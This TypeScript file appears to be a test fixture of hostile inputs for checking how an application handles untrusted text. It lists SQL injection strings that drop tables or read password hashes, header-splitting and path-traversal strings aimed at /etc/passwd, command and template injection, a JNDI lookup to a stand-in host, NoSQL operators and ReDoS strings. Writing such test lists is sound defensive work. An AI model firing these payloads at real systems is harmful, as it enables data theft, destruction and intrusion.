/** Texts that mean something to a database, a header, a file system, a template or a parser. */

/** What a statement that was put together from pieces would run; the pause is longer than any request. */
const statements = [
  "' or '1'='1",
  "' or 1=1 --",
  '" or ""="',
  "1 or 1=1",
  "1; drop table votes; --",
  "'; drop table users cascade; --",
  "'); delete from features; --",
  "'; update users set role = 'admin'; --",
  "'; create table pwned (); --",
  "'; create function pwned() returns int language sql as 'select 1'; --",
  "' union select password_hash from users --",
  "1 union select null, null, email from users",
  "'; select pg_sleep(28); --",
  "' || pg_sleep(28) || '",
  "1-(select 1 from pg_sleep(28))",
  "$$; select pg_sleep(28); $$",
  "\\'; select pg_sleep(28); --",
  "%' and 1=cast((select email from users limit 1) as int) and '%'='",
  "'; copy users to '/tmp/pwned.csv'; --",
  "'; notify live, '{}'; --",
  "%_\\%_\\",
  "a & b | !c <-> (d:*",
  "id; set role postgres",
];

/** What would end a header, a line of a mail or of a log, and begin another. */
const lineEnds = ["\r\n", "\n", "\r", "\u0085", "\u2028", "\u2029", "%0d%0a", "\\r\\n", "嘊嘍"];
const headers = lineEnds.flatMap((end) => [
  `wish${end}X-Injected: yes`,
  `wish${end}Set-Cookie: csrftoken=stolen; Path=/`,
  `wish${end}Bcc: everybody@canary.example`,
  `wish${end}${end}<script>window.__pwned=1</script>`,
]);

/** Ways out of a folder. */
const paths = [
  "../../../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "....//....//....//etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%252f..%252fetc%252fpasswd",
  "..%c0%af..%c0%afetc%c0%afpasswd",
  "/etc/passwd",
  "file:///etc/passwd",
  "avatars/../../package.json",
  "\u0000../../etc/passwd",
  "/proc/self/environ",
  "C:\\boot.ini",
];

/** What template engines, shells, loggers and other interpreters would act upon. */
const templates = [
  "{{7*7}}",
  "$" + "{7*7}",
  "<%= 7*7 %>",
  "#{7*7}",
  "$" + "{jndi:ldap://canary.example/a}",
  "`id`",
  "$(id)",
  "; cat /etc/passwd",
  "| sleep 28",
  "{{constructor.constructor('return process')().exit()}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "[object Object]",
];

/** Characters that are often stored, compared or displayed wrongly. */
const unicode = [
  "\u0000",
  "wish\u0000with a hole in it",
  "\uD800",
  "\uDC00\uD800 the halves in the wrong order",
  "\u202Etxt.exe turned around",
  "\u2066hidden\u2069 between isolates",
  "blank \u3164\u2800\u{E0061}\u2066 letters",
  "zero\u200Bwidth\u200Cin\u200Dside\uFEFF",
  `e${"\u0301".repeat(300)}`,
  "Z̸̧̡͎̺͉".repeat(40),
  "\uFFFE\uFFFF",
  "\u{E0041}\u{E0042} tags that nobody sees",
  "👩‍👩‍👧‍👦".repeat(30),
  "İstanbul ıi ŞΣς ß ǆ",
  "١٢٣٤",
  "𝕬𝖉𝖒𝖎𝖓",
  "аdmin with another a",
  "\u0007\u001B[31mred\u001B[0m",
  "\u2028\u2029",
  " ",
  "\u3000\u00A0\u2003",
  "",
];

/** Numbers, dates and words that parsers take for something else. */
const numbers = [
  "0",
  "-0",
  "-1",
  "1e309",
  "1e-400",
  "NaN",
  "Infinity",
  "0x7fffffff",
  "2147483648",
  "-2147483649",
  "9007199254740993",
  "99999999999999999999999999",
  "1.0000000000000000000000000001",
  "1_000",
  "٣",
  "null",
  "undefined",
  "true",
  "false",
  "2026-13-45T99:99:99Z",
  "+275760-09-14T00:00:00.000Z",
  "-271821-04-19T23:59:59.999Z",
];

/** Texts on which a careless pattern would take until the evening. */
const slow = [
  `${"a".repeat(50_000)}!`,
  `${"a@".repeat(15_000)}`,
  `${" ".repeat(50_000)}x`,
  `${"-a".repeat(20_000)}-`,
  `${"[".repeat(20_000)}`,
  `${"*a_".repeat(15_000)}`,
  `${"> ".repeat(20_000)}`,
  `${"![](".repeat(12_000)}`,
  `${"http://".repeat(8_000)}`,
  `${"a.".repeat(25_000)}`,
  `${"\u0301".repeat(50_000)}`,
  `${"((((a+)+)+)+)+".repeat(3_000)}`,
];

export const texts: readonly string[] = [
  ...statements,
  ...headers,
  ...paths,
  ...templates,
  ...unicode,
  ...numbers,
  ...slow,
];

const nested = (depth: number): unknown => (depth === 0 ? "x" : [nested(depth - 1)]);

/** What is no text at all, where one is expected. */
export const nonTexts: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 31,
  -(2 ** 53),
  1e300,
  [],
  [null],
  [[]],
  ["a", "b"],
  Array(5000).fill("x"),
  {},
  { $ne: null },
  { $gt: "" },
  { toString: "no function" },
  { length: 5, 0: "a" },
  { id: 1, role: "admin" },
  nested(200),
];

/** Texts that a header can carry over the wire. */
export const headerTexts: readonly string[] = texts.filter(
  (text) => /^[\x20-\x7E]*$/.test(text) && text.length < 8000,
);
